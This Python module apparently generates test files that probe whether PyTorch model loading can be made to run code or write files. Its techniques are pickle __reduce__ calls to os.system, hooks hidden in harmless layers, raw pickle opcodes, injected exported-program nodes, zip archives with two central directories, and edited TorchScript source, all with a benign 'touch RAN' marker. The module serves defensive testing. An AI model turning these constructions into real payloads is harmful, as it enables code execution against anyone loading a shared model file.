"""Makers of files that try to run code, write files, or eat time and memory. Each exploit tries to make the file ``MARK``."""

from __future__ import annotations

import copy
import io
import json
import os
import struct
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import torch
from torch import nn

MARK = "RAN"
TOUCH = f"touch {MARK}"
PYTHON = f"__import__('pathlib').Path({MARK!r}).touch()"

Members = dict[str, bytes]


class Call:
    """Pickles as a call of ``function``."""

    def __init__(self, function: Callable[..., Any], *args: Any) -> None:
        self.call = function, args

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return self.call


class Hooked(Call):
    """A harmless layer that carries a call in its attributes."""

    def __reduce__(self) -> Any:
        return nn.Identity, (), {"_forward_hooks": {0: Call(self.call[0], *self.call[1])}}


def forge(path: Path, data: bytes) -> Path:
    """A file as torch.save writes it, with a pickle of our own making."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("archive/data.pkl", data)
        archive.writestr("archive/version", "3\n")
        archive.writestr("archive/byteorder", "little")
    return path


def text(value: str) -> bytes:
    """A string in a pickle of protocol 2."""
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def name(dotted: str) -> bytes:
    """A class or function, "module name", in a pickle."""
    return b"c" + dotted.replace(" ", "\n").encode() + b"\n"


def raw(dotted: str, *arguments: str) -> bytes:
    """A pickle that calls "module name" with strings."""
    return b"\x80\x02" + name(dotted) + b"(" + b"".join(map(text, arguments)) + b"tR."


def saved(thing: Any) -> bytes:
    buffer = io.BytesIO()
    torch.save(thing, buffer)
    return buffer.getvalue()


def members_of(path: Path) -> Members:
    """What is in an archive, without the leading folder."""
    with zipfile.ZipFile(path) as archive:
        return {member.partition("/")[2]: archive.read(member) for member in archive.namelist()}


def archive_of(path: Path, members: Mapping[str, bytes], root: str | None = None) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        for member, data in members.items():
            archive.writestr(f"{root or path.stem}/{member}", data)
    return path


class Flattens(nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.flatten(x, 1) + 1


def exported(path: Path) -> Members:
    """A small exported program, and what is in it."""
    torch.export.save(torch.export.export(Flattens(), (torch.ones(2, 3, 4),)), path)
    return members_of(path)


def program_with(members: Members, target: str, *arguments: Mapping[str, Any]) -> Members:
    """An exported program that calls ``target`` first."""
    document = json.loads(members["models/model.json"])
    graph = document["graph_module"]["graph"]
    graph["tensor_values"]["evil"] = copy.deepcopy(graph["tensor_values"]["x"])
    node = copy.deepcopy(graph["nodes"][0])
    node |= {"target": target, "name": "evil", "outputs": [{"as_tensor": {"name": "evil"}}]}
    node["inputs"] = [{"name": "", "arg": dict(argument), "kind": 1} for argument in arguments]
    graph["nodes"].insert(0, node)
    return members | {"models/model.json": json.dumps(document).encode()}


def two_tables(path: Path, shown: Members, hidden: Members) -> Path:
    """An archive in which zipfile sees one set of members, and a reader that believes the offset of the table of contents another.

    Both sets must have the same names.
    """
    parts = []
    for number, members in enumerate((hidden, shown)):
        data = archive_of(path.with_suffix(f".{number}"), members, path.stem).read_bytes()
        size, offset = struct.unpack("<2L", data[-10:-2])
        parts.append((data[:offset], data[offset : offset + size], data[-22:]))
    (inner, table, _), (outer, cover, end) = parts
    assert len(table) == len(cover)
    body = inner + table + outer + cover
    # zipfile takes what lies between where the table is and where it is said to be for something in front of the archive
    in_front = len(body) - len(cover) - len(inner)
    moved = bytearray(cover)
    at = 0
    while at < len(moved):
        lengths = struct.unpack("<3H", moved[at + 28 : at + 34])
        (offset,) = struct.unpack("<L", moved[at + 42 : at + 46])
        moved[at + 42 : at + 46] = struct.pack("<L", offset + len(inner) + len(table) - in_front)
        at += 46 + sum(lengths)
    end = end[:12] + struct.pack("<2L", len(cover), len(inner)) + end[20:]
    path.write_bytes(inner + table + outer + bytes(moved) + end)
    return path


class Writes(nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        torch.save(x, "RAN")
        return x


def script(path: Path, edit: Callable[[str], str], rename: Callable[[str], str] = str) -> Path:
    """A TorchScript archive that writes a file, with its source edited."""
    torch.jit.save(torch.jit.script(Writes()), path)
    members = {}
    for member, data in members_of(path).items():
        code = member.startswith("code/") and member.endswith(".py")
        members[rename(member) if code else member] = edit(data.decode()).encode() if code else data
    return archive_of(path, members)


EVIL = Call(os.system, TOUCH)
